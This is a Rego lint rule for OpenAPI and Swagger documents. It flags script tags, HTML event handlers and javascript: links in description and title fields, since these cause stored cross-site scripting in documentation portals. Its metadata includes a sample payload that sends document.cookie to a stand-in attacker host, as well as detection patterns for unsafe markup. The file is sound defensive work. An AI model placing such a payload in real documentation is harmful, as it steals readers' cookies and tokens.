# METADATA
# title: Descriptions contain no script
# description: |
#   No description or title contains a `<script>` tag, an HTML event
#   handler attribute (`<img onerror=…>`) or a `javascript:` link.
#   Documentation portals render these fields as Markdown with inline
#   HTML: a script there runs in the browser of every reader, with the
#   portal's cookies and tokens (stored cross-site scripting; OWASP
#   API8:2023 Security Misconfiguration). Descriptions also flow into
#   generated SDK comments and developer tools that render them.
#
#   The `description` of tags, servers, operations (under `paths`,
#   `webhooks` and `callbacks`), parameters, request bodies, responses
#   (where they are written, shared ones once) and security schemes is
#   checked, and the `description` and `title` of `info` and of named
#   schemas (`components.schemas`, Swagger `definitions`). Inline schemas,
#   properties included, and response headers are not: a large document
#   has tens of thousands of these, and scanning them would cost more than
#   the rest of the rule. Text that merely mentions `eval(` is not
#   reported: it is inert outside a script or a handler, which the rule
#   catches. The rule reports on the field.
#
#   ```yaml
#   description: |
#     Returns pets. <script>fetch('https://evil.example/?c=' + document.cookie)</script>  # bad
#   description: Returns pets, as [documented](https://example.com/pets).                # good
#   ```
# custom:
#   category: Documentation
#   maturity: Baseline
#   severity: error
#   family: security
#   formats: [oas2, oas3]
#   peers: ["vacuum:no-script-tags-in-markdown", "spectral:no-script-tags-in-markdown", "redocly:no-unsafe-markdown"]
#   howToFix: |
#     Remove the script, handler or `javascript:` link; describe behaviour
#     in prose and link to pages with ordinary `https://` URLs. If the text
#     came from user input, find out how it got into the description.
package specgate.rules["no-unsafe-markdown"]

import data.specgate.lib.security
import data.specgate.lib.util

# Each collection is scanned in a rule of its own, looking the fields up
# directly and testing them before anything else: collecting the items
# first would hash every schema of the document, and a function call per
# text costs more than the test.
violations contains _finding(["info", key], text) if {
	count(_unsafe) > 0
	some key in ["description", "title"]
	text := input.document.info[key]
	_unsafe[text]
}

violations contains _finding(array.concat(s.source, [key]), text) if {
	count(_unsafe) > 0
	some s in _named_schemas
	some key in ["description", "title"]
	text := s.node[key]
	_unsafe[text]
}

violations contains _finding(array.concat(item.source, ["description"]), text) if {
	count(_unsafe) > 0
	some items in [input.parameters, input.tags, input.servers, input.securitySchemes]
	some item in items
	text := item.node.description
	_unsafe[text]
}

violations contains _finding(array.concat(op.source, ["description"]), text) if {
	count(_unsafe) > 0
	some ops in [input.operations, input.webhooks, input.callbacks]
	some op in ops
	text := op.description
	_unsafe[text]
}

violations contains _finding(array.concat(op.requestBody.source, ["description"]), text) if {
	count(_unsafe) > 0
	some ops in [input.operations, input.webhooks, input.callbacks]
	some op in ops
	text := op.requestBody.description
	_unsafe[text]
}

# Responses are read as written: a response that is a $ref has no
# description there and is read where it is defined.
violations contains _finding(array.concat(op.source, ["responses", status, "description"]), text) if {
	count(_unsafe) > 0
	some ops in [input.operations, input.webhooks, input.callbacks]
	some op in ops
	some status, response in op.node.responses
	text := response.description
	_unsafe[text]
}

violations contains _finding(array.concat(base, [name, "description"]), text) if {
	count(_unsafe) > 0
	some base in [["responses"], ["components", "responses"]]
	some name, item in object.get(input.document, base, {})
	text := item.description
	_unsafe[text]
}

# _named_schemas are the schemas under components.schemas (Swagger:
# definitions), which input.schemas lists first; a slice of the list spares
# a pass over the thousands of inline schemas of a large document.
_named_schemas := array.slice(input.schemas, 0, count(object.get(input.document, ["components", "schemas"], {})) + count(object.get(input.document, "definitions", {})))

# The patterns of unsafe markup. Only the texts with a "<" or a
# "javascript:" can match them: security.markup_texts, found in Go, a few
# dozen or hundred of a large API's thousands.
_patterns := {
	`(?i)<script\b`: "a <script> tag",
	`(?i)<[a-z][^>]*\bon[a-z]+\s*=`: "an HTML event handler attribute",
	`(?i)(\]\(\s*<?|\]:\s*<?|<|\b(href|src)\s*=\s*["']?\s*)javascript:`: "a javascript: link",
}

# _unsafe are the texts the patterns match, among security.markup_texts. Each
# body tests that its text is one of them, and first that there is one:
# where there is none (most documents), no place is read.
_unsafe := {text | some text in security.markup_texts; some pattern, _ in _patterns; regex.match(pattern, text)}

# _finding is the violation for an unsafe text; undefined for a safe one.
_finding(path, text) := util.violation(path, msg) if {
	whats := [what | some pattern, what in _patterns; regex.match(pattern, text)]
	count(whats) > 0
	msg := sprintf("%s contains %s, which would run in the browser of anyone reading the rendered documentation", [path[count(path) - 1], concat(" and ", sort(whats))])
}
